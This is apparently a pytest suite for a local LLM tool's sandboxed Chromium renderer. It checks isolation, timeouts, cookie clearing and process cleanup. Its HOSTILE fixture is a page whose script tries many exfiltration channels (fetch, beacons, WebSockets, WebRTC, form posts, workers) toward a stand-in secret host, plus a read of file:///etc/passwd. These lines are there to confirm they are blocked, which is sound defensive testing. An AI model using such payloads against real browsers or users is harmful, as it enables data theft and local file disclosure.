"""The real Chromium: pages that scripts make are read, and whatever they try, nothing goes where it must not."""

import asyncio
import os
import signal
import subprocess
import sys
import textwrap
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest

from localllm.base.errors import SafetyViolationError, ToolExecutionError
from localllm.config.loader import Loaded
from localllm.config.research_settings import ResearchSettings
from localllm.config.schema import Settings, WebSettings
from localllm.integrations.doctor.browser import browser
from localllm.web import services
from localllm.web.browser.script_pages import PageRenderer
from tests.research_web.server import ResearchWeb
from tests.support.doctor_world import surroundings
from tests.support.web_server import Site, moved, page, serve

pytestmark = pytest.mark.anyio

ROOT = Path(__file__).resolve().parents[2]


@asynccontextmanager
async def rendering(*sites: Site, seconds: float = 20.0) -> AsyncIterator[PageRenderer]:
    """A renderer that may reach these sites."""
    renderer = PageRenderer(tuple(site.place for site in sites), seconds=seconds)
    try:
        yield renderer
    finally:
        await renderer.aclose()


@pytest.mark.parametrize("addressing", ["name", "port"])
async def test_pages_made_by_scripts_are_read(addressing: str) -> None:
    """By name they come through the proxy of web.proxy, as those of people behind one do."""
    with ResearchWeb(addressing="name" if addressing == "name" else "port") as web:
        by_name = WebSettings(proxy=web.proxy_url)
        settings = Settings(web=by_name if addressing == "name" else WebSettings(allow_private=web.allow_private))
        reader = services.page_reader(settings)
        assert reader
        scripted = [one for one in web.data.pages.values() if one.form == "script" and one.status == 200]
        try:
            for one in scripted[:2]:
                read = await reader.read(web.address(one))
                assert (read.kind, read.url, read.failure) == ("browser", web.address(one), None)
                assert "".join(one.text.split()) in "".join(read.text.split())
        finally:
            await reader.aclose()


HOSTILE = """<title>hostile</title><div id=root></div><iframe src="SECRET/iframe"></iframe>
<link rel=prefetch href="SECRET/prefetch"><link rel=stylesheet href="SECRET/css"><script src="SECRET/js"></script>
<link rel=dns-prefetch href="//SECRET"><link rel=preconnect href="SECRET/preconnect"><img src="SECRET/img">
<iframe src="/jump"></iframe><iframe srcdoc="<script>fetch('SECRET/srcdoc')</script>"></iframe>
<script>
const quiet = promise => promise && promise.catch && promise.catch(() => 0);
const tries = [
  () => fetch('SECRET/fetch', {mode: 'no-cors'}), () => fetch('/jump', {mode: 'no-cors'}),
  () => fetch('http://localhost:PORT/localhost', {mode: 'no-cors'}),
  () => fetch('http://[::1]:PORT/six', {mode: 'no-cors'}),
  () => navigator.sendBeacon('SECRET/beacon', 'x'), () => new WebSocket('ws://127.0.0.1:PORT/socket'),
  () => new EventSource('SECRET/events'), () => window.open('SECRET/open'),
  () => new Worker(URL.createObjectURL(new Blob(["importScripts('SECRET/worker')"]))),
  () => navigator.serviceWorker.register('/worker.js'),
  () => { const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]});
          peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer)); },
  () => new WebTransport('https://127.0.0.1:UDP/'),
  () => { const form = document.createElement('form'); form.action = 'SECRET/form'; form.method = 'post';
          form.target = 'elsewhere'; document.body.append(form); form.submit(); },
  () => { const link = document.createElement('a'); link.href = '/download'; link.download = 'x'; link.click(); },
  () => fetch('file:///etc/passwd').then(r => r.text()).then(t => document.title = t),
];
for (const one of tries) try { quiet(one()); } catch (error) { }
setTimeout(() => document.getElementById('root').textContent = 'all was tried', 600);
</script>"""


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self) -> None:
        self.received: list[bytes] = []

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.received.append(data)


@asynccontextmanager
async def hostile() -> AsyncIterator[tuple[Site, Site, _Datagrams]]:
    """A site with the page above, a server that is none of its business, and what listens to datagrams."""
    transport, datagrams = await asyncio.get_running_loop().create_datagram_endpoint(
        _Datagrams, local_addr=("127.0.0.1", 0)
    )
    udp = str(transport.get_extra_info("sockname")[1])
    names = (
        "iframe prefetch css js preconnect img srcdoc fetch jumped localhost six beacon socket events open worker form"
    )
    async with serve({f"/{name}": page("secret") for name in names.split()}) as secret, serve({}) as site:
        html = HOSTILE.replace("SECRET", secret.url).replace("PORT", str(secret.port)).replace("UDP", udp)
        site.pages = {
            "/": page(html),
            "/jump": moved(f"{secret.url}/jumped"),
            "/worker.js": page("", "text/javascript"),
        }
        try:
            yield site, secret, datagrams
        finally:
            transport.close()


async def test_nothing_reaches_what_is_none_of_the_web() -> None:
    async with hostile() as (site, secret, datagrams), rendering(site) as renderer:
        rendered = await renderer.render(site.url)
        assert "all was tried" in rendered.html
        assert (secret.asked, datagrams.received) == ([], [])
        assert "<title>hostile</title>" in rendered.html
        asked = " ".join(head.split(" ")[1] for head in site.asked)
        assert "/jump" in asked
        assert "/worker.js" not in asked


async def test_what_the_user_has_named_is_reached_by_the_same_page() -> None:
    """So that the test above would see it."""
    async with hostile() as (site, secret, _), rendering(site, secret) as renderer:
        await renderer.render(site.url)
        reached = " ".join(head.split(" ")[1] for head in secret.asked)
        for path in ("/iframe", "/css", "/js", "/srcdoc", "/fetch", "/jumped", "/socket", "/beacon", "/open", "/form"):
            assert path in reached


async def test_a_page_that_goes_elsewhere_by_itself_is_not_followed_inside() -> None:
    async with serve({"/": page("secret")}) as secret, serve({}) as site:
        site.pages = {
            "/script": page(f"<script>location.href = '{secret.url}/'</script>"),
            "/moved": moved(f"{secret.url}/"),
        }
        async with rendering(site) as renderer:
            for path in ("/script", "/moved"):
                with pytest.raises((ToolExecutionError, SafetyViolationError)):
                    await renderer.render(site.url + path)
            with pytest.raises(SafetyViolationError):
                await renderer.render(secret.url)
        assert secret.asked == []


async def test_a_page_that_never_ends_takes_its_time_and_no_more() -> None:
    pages = {
        "/busy": page("<div id=root></div><script>while (true) {}</script>"),
        "/fine": page("<p id=x></p><script>document.getElementById('x').textContent = 'made ' + 'here'</script>"),
        "/gone": page("gone", status="410 Gone"),
        "/file": page("x" * 99, "application/octet-stream"),
    }
    async with serve(pages) as site, rendering(site, seconds=4.0) as renderer:
        for path, keys in (
            ("/hanging", ("browser_slow",)),
            ("/busy", ("browser_slow",)),
            ("/gone", ("web_status",)),
            ("/file", ("browser_page_failed",)),
        ):
            with pytest.raises(ToolExecutionError) as caught:
                await renderer.render(site.url + path)
            assert caught.value.key in keys, path
        assert "made here" in (await renderer.render(f"{site.url}/fine")).html
    assert _chromiums_of(os.getpid()) == []


async def test_cookies_and_storage_do_not_last_from_page_to_page() -> None:
    script = "document.title = [document.cookie, localStorage.x].join(); document.cookie = 'a=1'; localStorage.x = 2"
    async with serve({"/": page(f"<title>t</title><script>{script}</script>")}) as site, rendering(site) as renderer:
        for _ in range(2):
            assert "<title>,</title>" in (await renderer.render(site.url)).html


async def test_one_browser_serves_pages_that_are_wanted_at_once() -> None:
    pages = {f"/{n}": page(f"<p id=x></p><script>x.textContent = 'page ' + {n}</script>") for n in range(3)}
    async with serve(pages) as site, rendering(site) as renderer:
        rendered = await asyncio.gather(*(renderer.render(f"{site.url}/{n}") for n in range(3)))
        assert [f"page {n}" in one.html for n, one in enumerate(rendered)] == [True] * 3
        assert len(_chromiums_of(os.getpid())) == 1


async def test_the_proxy_serves_nobody_else() -> None:
    import httpx

    async with serve({"/": page("<p>x")}) as site, rendering(site) as renderer:
        await renderer.render(site.url)
        guard = renderer._guard
        assert guard
        guard.allow_more(1_000)
        async with httpx.AsyncClient(proxy=guard.address, trust_env=False) as client:
            assert (await client.get(site.url)).status_code == 407
        address = guard.address.replace("//", f"//{guard.user}:{guard.password}@")
        async with httpx.AsyncClient(proxy=address, trust_env=False) as client:
            assert (await client.get(site.url)).text == "<p>x"


async def test_a_page_that_wants_too_much_is_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("localllm.web.browser.script_pages._MOST_RECEIVED", 100_000)
    script = "fetch('/big').then(r => r.text()).then(t => x.textContent = t.length, () => x.textContent = 'cut')"
    pages = {"/": page(f"<p id=x></p><script>{script}</script>"), "/big": page("y" * 3_000_000, "text/plain")}
    async with serve(pages) as site, rendering(site) as renderer:
        assert ">cut<" in (await renderer.render(site.url)).html


WITHOUT = "<title>T</title><div id='root'></div><noscript>JavaScript please</noscript><script>1</script>"


async def test_without_a_browser_the_page_is_read_as_it_came(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("localllm.web.browser.chromium._PLACES", ())
    monkeypatch.setattr("localllm.web.browser.chromium._NAMES", ())
    async with serve({"/robots.txt": page(status="404 No"), "/": page(WITHOUT + "<p>Only this.</p>")}) as site:
        web = WebSettings(allow_private=(site.place,))
        reader = services.page_reader(Settings(web=web))
        assert reader
        read = await reader.read(site.url)
        assert (read.kind, read.text) == ("html", "Only this.")
        assert read.failure
        assert (read.failure.key, read.failure.code) == ("browser_missing", "E5003")
        off = services.page_reader(Settings(web=web, research=ResearchSettings(browser=False)))
        assert off
        assert (await off.read(site.url)).failure is None


async def test_doctor_starts_it(tmp_path: Path) -> None:
    settings = Settings(web=WebSettings(enabled=True), research=ResearchSettings(language="ja"))
    (finding,) = await browser(surroundings(tmp_path, loaded=Loaded(settings=settings)))
    assert finding.status == "ok"
    assert "pages made by scripts can be read" in finding.what
    assert _chromiums_of(os.getpid()) == []


RUNNING = """
import asyncio, sys
from localllm.web.browser.script_pages import PageRenderer

async def main() -> None:
    renderer = PageRenderer((sys.argv[1],), seconds=60)
    try:
        await renderer.render(f"http://{sys.argv[1]}/hanging")
    finally:
        await renderer.aclose()

asyncio.run(main())
"""


@pytest.mark.parametrize("how", ["SIGKILL", "SIGINT", "SIGTERM"])
async def test_the_browser_ends_with_the_program(how: str, tmp_path: Path) -> None:
    """SIGINT goes to all of them, as a terminal sends it."""
    async with serve({}) as site:
        environ = {**os.environ, "TMPDIR": str(tmp_path)}
        command = [sys.executable, "-c", textwrap.dedent(RUNNING), site.place]
        process = subprocess.Popen(command, cwd=ROOT, env=environ, start_new_session=True)
        try:
            await soon(lambda: any("/hanging" in head for head in site.asked))
            family = [*_descendants(process.pid)]
            assert _chromiums_of(process.pid)
            if how == "SIGINT":
                os.killpg(process.pid, signal.SIGINT)
            else:
                os.kill(process.pid, signal.Signals[how])
            await soon(lambda: process.poll() is not None)
            await soon(lambda: not any(map(_is_alive, family)))
            await soon(lambda: not list(tmp_path.glob("playwright*")))
        finally:
            process.kill()
            process.wait()


async def soon(holds: Callable[[], bool]) -> None:
    """Return once it holds; the time limit of the test is for what never does."""
    while not holds():
        await asyncio.sleep(0.02)


def _descendants(pid: int) -> Iterator[int]:
    for child in _children(pid):
        yield child
        yield from _descendants(child)


def _children(pid: int) -> list[int]:
    found: list[int] = []
    for entry in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = entry.read_text().rpartition(")")[2].split()
        except OSError:
            continue
        if int(fields[1]) == pid:
            found.append(int(entry.parent.name))
    return found


def _chromiums_of(pid: int) -> list[int]:
    """The browsers that were started below a process: not their own helpers."""
    found: list[int] = []
    for one in _descendants(pid):
        try:
            command = Path(f"/proc/{one}/cmdline").read_bytes()
        except OSError:
            continue
        if b"--remote-debugging-pipe" in command and b"--type=" not in command:
            found.append(one)
    return found


def _is_alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except OSError:
        return False
